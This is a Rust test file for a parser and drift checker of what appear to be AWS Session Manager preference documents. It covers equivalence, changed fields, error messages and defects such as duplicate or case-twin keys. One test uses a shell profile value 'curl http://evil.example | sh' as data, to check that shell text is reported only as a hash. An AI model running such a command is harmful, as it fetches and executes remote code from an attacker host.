use super::*;

fn read(text: &str) -> Preferences {
    Preferences::parse(text).unwrap()
}

const PLAIN: &str = r#"{"schemaVersion":"1.0","sessionType":"Standard_Stream","inputs":{
    "cloudWatchLogGroupName":"sessions","cloudWatchEncryptionEnabled":true,"idleSessionTimeout":"20"}}"#;

#[test]
fn spelling_is_no_difference() {
    for same in [
        r#"{"inputs":{"idleSessionTimeout":20,"cloudWatchEncryptionEnabled":"true","cloudWatchLogGroupName":"sessions"},
            "sessionType":"Standard_Stream","schemaVersion":"1.0","description":"whatever"}"#,
        r#"{"schemaVersion":"1.0","sessionType":"Standard_Stream","parameters":{},"inputs":{"s3BucketName":"",
            "kmsKeyId":null,"shellProfile":{"linux":"","windows":null},"cloudWatchLogGroupName":"sessions",
            "cloudWatchEncryptionEnabled":true,"idleSessionTimeout":"20"}}"#,
        "schemaVersion: '1.0'\nsessionType: Standard_Stream\ninputs:\n  cloudWatchLogGroupName: sessions\n  \
         cloudWatchEncryptionEnabled: true\n  idleSessionTimeout: 20\n",
    ] {
        let (one, other) = (read(PLAIN), read(same));
        assert!(one.means_the_same_as(&other), "{:?}", drift(&one, &other));
        assert_eq!(one.meaning_hash(), other.meaning_hash());
    }
}

#[test]
fn every_changed_added_or_lost_field_is_drift() {
    let found = read(
        r#"{"schemaVersion":"1.0","sessionType":"Standard_Stream","inputs":{
            "cloudWatchEncryptionEnabled":false,"idleSessionTimeout":"20","newKey":{"deep":[1]}}}"#,
    );
    let expected = read(PLAIN);
    let paths = fields_that_differ(&expected, &found);
    let paths: Vec<_> = paths.iter().map(FieldPath::as_str).collect();
    assert_eq!(
        paths,
        [
            "inputs.cloudWatchEncryptionEnabled",
            "inputs.cloudWatchLogGroupName",
            "inputs.newKey.deep[0]"
        ]
    );
    assert_ne!(expected.meaning_hash(), found.meaning_hash());
}

#[test]
fn shell_text_is_shown_only_as_a_hash() {
    let found = read(r#"{"inputs":{"shellProfile":{"linux":"curl http://evil.example | sh"}}}"#);
    let lines = drift(&read("{}"), &found);
    let shown = lines.first().and_then(|drift| drift.found.clone()).unwrap();
    assert!(
        shown.starts_with("shell text of 29 characters, sha256 "),
        "{shown}"
    );
}

#[test]
fn writing_back_keeps_every_key_in_its_order() {
    let text = r#"{"zeta":1,"inputs":{"b":"x","a":[true,null,{"k":1.5}]},"schemaVersion":"1.0"}"#;
    assert_eq!(read(text).to_json(), text);
}

#[test]
fn what_is_no_object_is_refused_with_what_it_is() {
    for (text, message) in [
        ("[]", "the content is a list, expected an object"),
        ("7", "the content is a number, expected an object"),
        ("just words", "the content is a text, expected an object"),
        ("", "the content is null, expected an object"),
    ] {
        assert_eq!(
            Preferences::parse(text).map_err(|e| e.to_string()),
            Err(message.to_owned()),
            "{text}"
        );
    }
    let cut_off = Preferences::parse(r#"{"inputs": {"#)
        .unwrap_err()
        .to_string();
    assert!(cut_off.contains("line 1"), "{cut_off}");
    let huge = format!("{{\"a\":\"{}\"}}", "x".repeat(70_000));
    assert!(matches!(
        Preferences::parse(&huge),
        Err(PreferencesError::TooLong { .. })
    ));
}

#[test]
fn a_fit_document_has_no_defect() {
    assert_eq!(read(PLAIN).defects(), []);
}

#[test]
fn documents_that_do_not_mean_what_they_seem_to_say_have_defects() {
    let head = r#""schemaVersion":"1.0","sessionType":"Standard_Stream""#;
    let input = FieldPath::input;
    for (inputs, defect) in [
        (
            r#"{"s3BucketName":"a","s3BucketName":"b"}"#,
            Defect::DuplicateKey(input("s3BucketName")),
        ),
        (
            r#"{"S3BucketName":"a"}"#,
            Defect::CaseTwin(input("S3BucketName")),
        ),
        (r#"{"x":"a","X":"b"}"#, Defect::CaseTwin(input("X"))),
        (
            r#"{"shellProfile":{"Linux":"a"}}"#,
            Defect::CaseTwin(input("shellProfile").child("Linux")),
        ),
        (
            r#"{"s3BucketName":"{{bucket}}"}"#,
            Defect::Placeholder(input("s3BucketName")),
        ),
        (
            r#"{"shellProfile":{"linux":"{{ssm:x}}"}}"#,
            Defect::Placeholder(input("shellProfile").child("linux")),
        ),
        (
            r#"{"s3BucketName":["a"]}"#,
            Defect::Shape(input("s3BucketName")),
        ),
        (
            r#"{"shellProfile":"text"}"#,
            Defect::Shape(input("shellProfile")),
        ),
        ("[]", Defect::Shape(FieldPath::root().child("inputs"))),
    ] {
        let document = read(&format!(r#"{{{head},"inputs":{inputs}}}"#));
        assert_eq!(document.defects(), [defect], "{inputs}");
    }
    let inputs = r#"{"sessionType":"Port","schemaVersion":"2.2","Inputs":{}}"#;
    let expected = [
        Defect::CaseTwin(FieldPath::root().child("Inputs")),
        Defect::SchemaVersion,
        Defect::SessionType,
    ];
    assert_eq!(read(inputs).defects(), expected);
}
